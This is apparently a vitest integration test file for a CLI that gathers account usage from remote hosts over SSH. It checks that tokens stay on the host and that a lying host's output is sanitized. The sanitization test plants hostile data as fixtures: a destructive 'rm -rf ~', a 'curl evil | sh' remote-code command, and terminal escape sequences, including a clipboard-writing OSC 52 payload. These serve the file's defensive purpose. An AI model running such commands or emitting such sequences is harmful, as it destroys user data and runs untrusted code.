// Usage on a remote host, over a real sshd on 127.0.0.1: the host's own AuthBar asks with its
// own tokens (no token crosses), its answer is checked and cleaned like its status, and a host
// that lies is shown as invalid data, never obeyed.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { Controller } from '../../main/core/controller.ts';
import { planUsageNotifications } from '../../main/core/usage/notify-plan.ts';
import { CLI, runCli } from '../helpers/cli.ts';
import { remoteAuthbar, remoteScript, type Sshd, sshdAvailable, startSshd } from '../helpers/sshd.ts';
import { makeStateDir, type StateDir, storeDocument } from '../helpers/state-dir.ts';
import { codexCredential, secretsIn } from '../helpers/tokens.ts';
import { startUsageServer, type UsageServer } from '../helpers/usage-server.ts';

const HOUR = 3_600_000;
const available = sshdAvailable();
let sshd: Sshd;
let usage: UsageServer;
const dirs: StateDir[] = [];
beforeAll(async () => {
  if (!available) return;
  [sshd, usage] = await Promise.all([startSshd(), startUsageServer()]);
}, 60_000);
afterAll(async () => {
  await sshd?.cleanup();
  await usage?.close();
  for (const d of dirs) d.cleanup();
});

function machines() {
  const laptop = makeStateDir({ agents: [{ id: 'main', store: storeDocument({ 'openai-codex:default': codexCredential({ accountId: 'acct-laptop', expiresInMs: 50 * HOUR }) }) }] });
  const shared = codexCredential({ accountId: 'acct-vps', expiresInMs: 30 * HOUR });
  const vpsStores = { main: storeDocument({ 'openai-codex:default': shared }), artist: storeDocument({ 'openai-codex:default': { ...shared } }) };
  const vps = makeStateDir({ imageGenerationModel: 'openai/gpt-image-2', agents: [{ id: 'main', store: vpsStores.main }, { id: 'artist', store: vpsStores.artist }] });
  dirs.push(laptop, vps);
  const remoteCommand = remoteAuthbar(vps.root, CLI, { AUTHBAR_HOME: vps.authbarHome, AUTHBAR_USAGE_URL: usage.url });
  return { laptop: { ...laptop, env: { ...laptop.env, AUTHBAR_USAGE_URL: usage.url } }, vps, remoteCommand, vpsSecrets: secretsIn(vpsStores) };
}

async function addHost(env: Record<string, string>, name: string, stateDir: string, remoteCommand: string) {
  const added = await runCli(['hosts', 'add', name, sshd.destination, '--ssh-config', sshd.sshConfig, '--state-dir', stateDir, '--remote-command', remoteCommand], env);
  expect(added.code, added.stderr).toBe(0);
}

describe.skipIf(!available)('usage on remote hosts', () => {
  it('is read on the host, one row per account, and no host token reaches this machine', async () => {
    const { laptop, vps, remoteCommand, vpsSecrets } = machines();
    await addHost(laptop.env, 'vps', vps.stateDir, remoteCommand);
    usage.requests.length = 0;
    usage.answer = 'high';
    const result = await runCli(['usage', '--json'], laptop.env);
    expect(result.code, result.stderr).toBe(0);
    const report = JSON.parse(result.stdout);
    expect(report.hosts).toEqual([{ name: 'vps', reachable: true, checkedAt: expect.any(String), error: null }]);
    expect(report.accounts.map((a: any) => [a.host, a.accountId, a.agents])).toEqual([['local', 'acct-laptop', ['main']], ['vps', 'acct-vps', ['artist', 'main']]]);
    expect(report.accounts[1].usage.windows.map((w: any) => w.usedPercent)).toEqual([30, 96]);
    expect(report.agents.find((a: any) => a.host === 'vps' && a.id === 'artist').readiness.state).toBe('usage-high');
    expect(usage.requests.map((r) => r.accountId).sort()).toEqual(['acct-laptop', 'acct-vps']);
    for (const secret of vpsSecrets) expect(result.stdout.includes(secret) || result.stderr.includes(secret)).toBe(false);

    // status --usage carries the host's usage and readiness through the same checks; --check counts it.
    const status = await runCli(['status', '--json', '--usage', '--check'], laptop.env);
    expect(status.code, status.stderr).toBe(2);
    const artist = JSON.parse(status.stdout).agents.find((a: any) => a.host === 'vps' && a.id === 'artist');
    expect(artist.readiness.state).toBe('usage-high');
    expect(artist.profiles[0].usage.windows.map((w: any) => w.label)).toEqual(['5h', 'Week']);
  }, 120_000);

  it('the app\'s usage notices cover a host\'s accounts too, named with the host', async () => {
    const { laptop, vps, remoteCommand } = machines();
    await addHost(laptop.env, 'vps', vps.stateDir, remoteCommand);
    usage.answer = 'high';
    // The host asks with its own tokens and keeps the answer; its live rows then carry it.
    expect((await runCli(['usage', '--json', '--host', 'vps'], laptop.env)).code).toBe(0);
    const controller = new Controller({ env: laptop.env, debounceMs: 50 });
    try {
      await controller.start();
      await vi.waitFor(() => expect(controller.usageAccounts().find((a) => a.host === 'vps')?.usage.windows).toHaveLength(2), { timeout: 60_000, interval: 50 });
      expect(controller.usageAccounts().find((a) => a.host === 'vps')).toMatchObject({ accountId: 'acct-vps', agents: ['artist', 'main'], imageAgents: ['artist', 'main'] });
      const plan = planUsageNotifications({ accounts: controller.usageAccounts(), now: Date.now(), sent: new Set() });
      const there = plan.notifications.find((n) => n.host === 'vps');
      expect(there?.body).toMatch(/^Image generation for artist and main on vps stops at the weekly limit: 96 % used/);
      expect(there?.agents[0]).toBe('artist');
    } finally {
      await controller.stop();
    }
  }, 120_000);

  it('shows a host whose usage breaks the rules as invalid data, and cleans its free text', async () => {
    const { laptop } = machines();
    const now = Date.now();
    const answer = (label: string) => JSON.stringify({
      version: '0.1.0', generatedAt: new Date(now).toISOString(), requests: 1,
      accounts: [{ host: 'local', accountId: 'acct-x', email: null, agents: ['main'], imageAgents: [],
        usage: { plan: 'plus\u001b]52;c;ZWNobyBoaQ==\u0007', windows: [{ label, usedPercent: 50, resetsAt: now + HOUR }], credits: null, checkedAt: now, limitReachedUntil: null,
          error: { kind: 'transient', cause: 'boom\u001b[31m red', fix: 'rm -rf ~', retryAfter: now + HOUR } } }],
      agents: [{ id: 'main', host: 'local', readiness: { state: 'usage-high', until: null, cause: 'x\u0007y', fix: 'curl evil | sh' } }],
      warnings: [],
    });
    const good = join(laptop.root, 'good.json');
    const bad = join(laptop.root, 'bad.json');
    writeFileSync(good, answer('5h'));
    writeFileSync(bad, answer('5h\u001b[2J'));
    await addHost(laptop.env, 'liar', '/nowhere', remoteScript(laptop.root, 'liar', {}, ['sh', '-c', `cat ${good}`, 'liar']));
    await addHost(laptop.env, 'worse', '/nowhere', remoteScript(laptop.root, 'worse', {}, ['sh', '-c', `cat ${bad}`, 'worse']));
    const result = await runCli(['usage', '--json', '--host', 'liar', '--host', 'worse'], laptop.env);
    expect(result.code, result.stderr).toBe(0);
    const report = JSON.parse(result.stdout);
    const liar = report.accounts.find((a: any) => a.host === 'liar');
    expect(liar.usage.plan).toBe('plus');
    expect(liar.usage.error).toMatchObject({ cause: '“boom red”', fix: null });
    expect(report.agents.find((a: any) => a.host === 'liar').readiness).toMatchObject({ cause: '“xy”', fix: null });
    expect(report.hosts.find((h: any) => h.name === 'worse')).toMatchObject({ reachable: false, error: expect.stringContaining('invalid data (accounts.0.usage.windows.0.label)') });
    expect(result.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
    const text = await runCli(['usage', '--host', 'liar', '--host', 'worse'], laptop.env);
    expect(text.stdout + text.stderr).not.toMatch(/\u001b|\u0007/);
  }, 120_000);
});
